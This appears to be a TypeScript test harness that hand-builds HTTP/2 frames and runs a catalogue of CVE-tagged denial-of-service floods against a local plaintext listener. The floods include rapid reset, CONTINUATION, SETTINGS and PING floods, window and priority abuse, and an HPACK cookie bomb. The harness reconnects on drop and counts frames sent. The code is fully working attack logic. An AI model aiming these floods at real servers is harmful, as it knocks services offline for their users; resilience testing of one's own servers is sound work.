// What a client that means harm does with HTTP/2 (RFC 9113), frame by frame: a library would not send it. Each attack is what one connection says; it is
// said again on a new one whenever the other side ends it, until so many frames were sent.
import { connect, type Socket } from 'node:net';

const [DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION] = [0, 1, 2, 3, 4, 6, 8, 9] as const;
const [END_STREAM, END_HEADERS, ACK] = [1, 4, 1] as const;
const PREFACE = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n');
/** Frames that go into one write. */
const TOGETHER = 50;
/** A connection that takes nothing for so long is not read any more. */
const STUCK_MS = 1_000;

function frame(type: number, flags: number, stream: number, payload: Buffer = Buffer.alloc(0)): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head[3] = type;
  head[4] = flags;
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
}

/** A number with a prefix of so many bits (RFC 7541 §5.1). */
function prefixed(bits: number, first: number, value: number): Buffer {
  const most = 2 ** bits - 1;
  if (value < most) return Buffer.from([first | value]);
  const bytes = [first | most];
  let rest = value - most;
  for (; rest >= 128; rest = Math.floor(rest / 128)) bytes.push((rest % 128) + 128);
  return Buffer.from([...bytes, rest]);
}

const text = (value: string): Buffer => Buffer.concat([prefixed(7, 0, value.length), Buffer.from(value)]);
/** A field that is not to be kept; a name by its number in the static table, or by itself. */
const field = (name: number | string, value: string): Buffer =>
  Buffer.concat([typeof name === 'number' ? prefixed(4, 0, name) : Buffer.concat([Buffer.from([0]), text(name)]), text(value)]);
const [AUTHORITY, METHOD, PATH, COOKIE] = [1, 2, 4, 32] as const;
const u32 = (...values: readonly number[]): Buffer => {
  const out = Buffer.alloc(4 * values.length);
  for (const [at, value] of values.entries()) out.writeUInt32BE(value, 4 * at);
  return out;
};

/** A request's fields: `GET path` of `host` over http. */
const request = (host: string, path: string, method = 'GET'): Buffer =>
  Buffer.concat([field(METHOD, method), Buffer.from([0x86]), field(PATH, path), field(AUTHORITY, host)]);

export interface H2Attack {
  /** Whether it reads what comes, and answers pings. */
  readonly reads: boolean;
  /** What is said once, after the connection's preface. */
  readonly first?: (host: string) => Buffer;
  /** What is said over and over; `n` counts from 0 on each connection. */
  readonly again: (n: number, host: string) => Buffer;
}

const SETTING_INITIAL_WINDOW = Buffer.concat([Buffer.from([0, 4]), u32(0)]);
const odd = (n: number): number => 2 * n + 1;

/** The attacks by name; CVE numbers are of the first implementations that fell. */
export const H2_ATTACKS: Readonly<Record<string, H2Attack>> = {
  /** CVE-2023-44487: requests that are taken back at once. */
  'rapid reset': {
    reads: true,
    again: (n, host) => Buffer.concat([frame(HEADERS, END_HEADERS | END_STREAM, odd(n), request(host, '/delay/50')), frame(RST_STREAM, 0, odd(n), u32(8))]),
  },
  /** CVE-2025-8671: the server is made to take them back. */
  'made you reset': {
    reads: true,
    again: (n, host) => Buffer.concat([frame(HEADERS, END_HEADERS | END_STREAM, odd(n), request(host, '/delay/50')), frame(WINDOW_UPDATE, 0, odd(n), u32(0))]),
  },
  /** CVE-2024-27316: a head that does not end. */
  'continuation without end': {
    reads: true,
    first: (host) => frame(HEADERS, 0, 1, request(host, '/')),
    again: (n) => frame(CONTINUATION, 0, 1, field(`x-${n}`, 'a'.repeat(4000))),
  },
  'empty continuation': { reads: true, first: (host) => frame(HEADERS, 0, 1, request(host, '/')), again: () => frame(CONTINUATION, 0, 1) },
  /** CVE-2019-9515 and -9512: each wants an answer that nobody reads. */
  settings: { reads: false, again: () => frame(SETTINGS, 0, 0, SETTING_INITIAL_WINDOW) },
  ping: { reads: false, again: () => frame(PING, 0, 0, Buffer.alloc(8)) },
  /** CVE-2019-9518. */
  'empty data': { reads: true, first: (host) => frame(HEADERS, END_HEADERS, 1, request(host, '/', 'POST')), again: () => frame(DATA, 0, 1) },
  /** CVE-2019-9513. */
  priority: { reads: true, again: (n) => frame(PRIORITY, 0, odd(n % 50), Buffer.concat([u32(odd((n + 7) % 50)), Buffer.from([n % 256])])) },
  'window by one byte': {
    reads: true,
    first: (host) => frame(HEADERS, END_HEADERS, 1, request(host, '/', 'POST')),
    again: () => frame(WINDOW_UPDATE, 0, 1, u32(1)),
  },
  /** One cookie of 3.5 kB is said once, then named by a byte, thousands of times in each head (CVE-2026-47774). */
  'cookie bomb': {
    reads: true,
    first: (host) => frame(HEADERS, END_HEADERS | END_STREAM, 1, Buffer.concat([request(host, '/'), prefixed(6, 0x40, COOKIE), text(`a=${'b'.repeat(3500)}`)])),
    again: (n, host) => frame(HEADERS, END_HEADERS | END_STREAM, odd(n + 1), Buffer.concat([request(host, '/'), Buffer.alloc(15_000, 0x80 | 62)])),
  },
};

/** CVE-2019-9517: large answers are asked for and not taken, by a client that is otherwise well. */
export const UNREAD: H2Attack = {
  reads: true,
  first: () => frame(SETTINGS, 0, 0, SETTING_INITIAL_WINDOW),
  again: (n, host) => frame(HEADERS, END_HEADERS | END_STREAM, odd(n), request(host, '/bytes/5000000')),
};

export interface H2Outcome {
  /** Frames that the system took for the other side. */
  readonly frames: number;
  readonly connections: number;
  /** How many of them the other side ended. */
  readonly ended: number;
}

export interface H2Strength {
  /** Frames in all, and at most so many on one connection. */
  readonly frames: number;
  readonly each: number;
  /** Connections at a time. */
  readonly width: number;
  /** Looks at the attack while it stands; then it is let go. */
  readonly until: () => Promise<void>;
}

/** Answers each PING, so that the other side takes it for alive. */
function answerPings(socket: Socket): void {
  let rest = Buffer.alloc(0);
  socket.on('data', (bytes: Buffer) => {
    rest = Buffer.concat([rest, bytes]);
    for (; rest.length >= 9 && rest.length >= 9 + rest.readUIntBE(0, 3); rest = rest.subarray(9 + rest.readUIntBE(0, 3)))
      if (rest[3] === PING && rest[4] === 0) socket.write(frame(PING, ACK, 0, rest.subarray(9, 17)));
  });
}

/** Says the attack on one connection until `most` frames were taken, the other side ends it, or nothing moves any more; counts frames by `taken`. */
async function assault(attack: H2Attack, socket: Socket, host: string, most: number, taken: (frames: number) => void): Promise<void> {
  if (attack.reads) answerPings(socket);
  socket.write(Buffer.concat([PREFACE, frame(SETTINGS, 0, 0), attack.first?.(host) ?? Buffer.alloc(0)]));
  for (let n = 0; n < most && !socket.destroyed; n += TOGETHER) {
    const now = Math.min(TOGETHER, most - n);
    const bytes = Buffer.concat(Array.from({ length: now }, (_, at) => attack.again(n + at, host)));
    const moved = await new Promise<boolean>((done) => {
      socket.write(bytes, (error) => done(error === undefined || error === null));
      socket.once('close', () => done(false)).once('timeout', () => done(false));
    });
    socket.removeAllListeners('timeout').removeAllListeners('close');
    if (!moved) return;
    taken(now);
  }
}

/** Attacks a plaintext listener; its connections stand until `until`, and what is ended before all frames are said is begun anew. */
export async function attackH2(attack: H2Attack, port: number, host: string, { frames, width, each, until }: H2Strength): Promise<H2Outcome> {
  let sent = 0;
  const held: Socket[] = [];
  const worker = async (): Promise<void> => {
    while (sent < frames) {
      const socket = connect(port, '127.0.0.1').setTimeout(STUCK_MS);
      held.push(socket);
      await new Promise<void>((done) => socket.on('error', () => done()).once('connect', done));
      await assault(attack, socket, host, each, (now) => {
        sent += now;
      });
      // One that takes nothing more is held as it is, beside a new one.
    }
  };
  await Promise.all(Array.from({ length: width }, worker));
  await until();
  const ended = held.filter(({ destroyed, readableEnded }) => destroyed || readableEnded).length;
  for (const socket of held) socket.destroy();
  return { frames: sent, connections: held.length, ended };
}
